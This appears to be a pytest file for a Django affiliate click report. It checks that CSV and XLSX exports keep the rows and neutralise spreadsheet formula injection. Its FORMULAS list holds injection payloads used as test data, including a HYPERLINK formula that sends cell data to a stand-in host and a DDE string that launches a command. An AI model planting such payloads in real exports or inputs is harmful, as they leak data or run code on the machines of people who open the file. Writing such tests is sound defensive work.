"""The report as a spreadsheet: the same rows, and no cell that a program would run."""

import csv
from datetime import timedelta
from io import BytesIO, StringIO
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from affiliates.models import DailyClicks
from affiliates.report.export import neutral
from tests import factories
from tests.affiliates.things import link, programme

pytestmark = pytest.mark.django_db

REPORT = reverse("paid_link_report:clicks")
FORMULAS = [
    '=HYPERLINK("https://bad.example/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "  =1",
    "＝1",
    "=cmd|'/C calc'!A0",
]


@pytest.fixture
def editor(client: Client) -> Client:
    factories.home()
    client.force_login(factories.user("editor", "Editors"))
    return client


def body(client: Client, address: str, **asked: Any) -> bytes:
    response = client.get(address, asked)
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    return b"".join(response.streaming_content)


def csv_rows(client: Client, address: str = REPORT, **asked: Any) -> list[list[str]]:
    return list(csv.reader(StringIO(body(client, address, export="csv", **asked).decode(), newline="")))


def cells(client: Client, address: str = REPORT, **asked: Any) -> list[list[Any]]:
    workbook = load_workbook(BytesIO(body(client, address, export="xlsx", **asked)))
    return [list(row) for row in workbook.active.iter_rows()]


def xlsx_rows(client: Client, address: str = REPORT, **asked: Any) -> list[list[Any]]:
    return [[cell.value for cell in row] for row in cells(client, address, **asked)]


def test_both_formats_hold_the_rows_of_the_report(editor: Client) -> None:
    today = timezone.localdate()
    bands = link("Bands", programme=programme("Sample shop"))
    page = factories.article("Back pain", slug="back-pain")
    DailyClicks.objects.create(link=bands, day=today, count=1234, page_id=page.pk)
    DailyClicks.objects.create(link=bands, day=today - timedelta(days=40), count=5)
    by_link = ["Bands", 1234, 5, "Sample shop", "Direct: undercounted", "Not looked at yet"]
    heading = ["Link", "Clicks", "Period before", "Programme", "Counted", "Last look"]
    assert xlsx_rows(editor) == [heading, by_link]
    assert csv_rows(editor) == [heading, [str(value) for value in by_link]]
    assert csv_rows(editor, group="page") == [
        ["Page", "Clicks", "Period before", "Address"],
        ["Back pain", "1234", "0", "/articles/back-pain/"],
        ["Unknown page", "0", "5", ""],
    ]
    assert csv_rows(editor, group="day") == [["Day", "Clicks"], [today.isoformat(), "1234"]]
    ((_day, _clicks), (day, number)) = xlsx_rows(editor, group="day")
    assert (day, number) == (today, 1234)
    assert csv_rows(editor, page="unknown", link=bands.pk)[1:] == [
        ["Bands", "0", "5", "Sample shop", "Direct: undercounted", "Not looked at yet"]
    ]


def test_a_file_has_all_pages_in_the_order_asked_for_and_a_name_that_tells_the_days(editor: Client) -> None:
    shop, today = programme(), timezone.localdate()
    for number in range(60):
        DailyClicks.objects.create(
            link=link(f"Link {number:02}", programme=shop), day=today, count=number + 1
        )
    assert [row[0] for row in csv_rows(editor, ordering="name", p=2)[1:]] == [
        f"Link {n:02}" for n in range(60)
    ]
    name = editor.get(REPORT, {"export": "xlsx", "since": "2026-01-02", "until": "2026-01-05"})[
        "Content-Disposition"
    ]
    assert "paid-links-2026-01-02-2026-01-05.xlsx" in name


def test_a_link_s_history_is_exported_under_its_name(editor: Client) -> None:
    bands = link("Bands", slug="bands")
    DailyClicks.objects.create(link=bands, day=timezone.localdate(), count=3)
    DailyClicks.objects.create(link=link(), day=timezone.localdate(), count=9)
    address = reverse("paid_link_report:history", args=[bands.pk])
    assert csv_rows(editor, address)[1:] == [["Unknown page", "3", "0", ""]]
    assert 'filename="bands-paid-links-' in editor.get(address, {"export": "csv"})["Content-Disposition"]


def test_no_name_becomes_a_formula(editor: Client) -> None:
    today = timezone.localdate()
    for name in FORMULAS:
        page = factories.article(name)
        bad = link(name, programme=programme(name))
        DailyClicks.objects.create(link=bad, day=today, count=1, page_id=page.pk)
    for group, columns in (("link", (0, 3)), ("page", (0,))):
        in_csv, in_xlsx = csv_rows(editor, group=group)[1:], cells(editor, group=group)[1:]
        assert len(in_csv) == len(in_xlsx) == len(FORMULAS)
        for line, row in zip(in_csv, in_xlsx, strict=True):
            for column in columns:
                assert line[column].startswith("'")
                assert row[column].data_type == "s"
                assert row[column].value.startswith("'")
            assert [cell.data_type for cell in row[1:3]] == ["n", "n"]


def test_a_name_cannot_begin_a_cell_where_a_program_splits_at_semicolons(editor: Client) -> None:
    DailyClicks.objects.create(
        link=link('Bands;=1+1;"', programme=programme()), day=timezone.localdate(), count=1
    )
    line = body(editor, REPORT, export="csv").decode().splitlines()[1]
    assert line.startswith('"Bands;=1+1;""",')


def test_a_control_character_in_a_name_does_not_break_the_workbook(editor: Client) -> None:
    DailyClicks.objects.create(link=link("Ba\x0bnds\x1f"), day=timezone.localdate(), count=1)
    assert xlsx_rows(editor)[1][0] == "Bands"
    assert csv_rows(editor)[1][0] == "Bands"


@pytest.mark.parametrize("text", ["", "Bands", "Bands = good", "3-in-1", "’=1", "Änderung"])
def test_plain_words_stay_as_they_are(text: str) -> None:
    assert neutral(text) == text
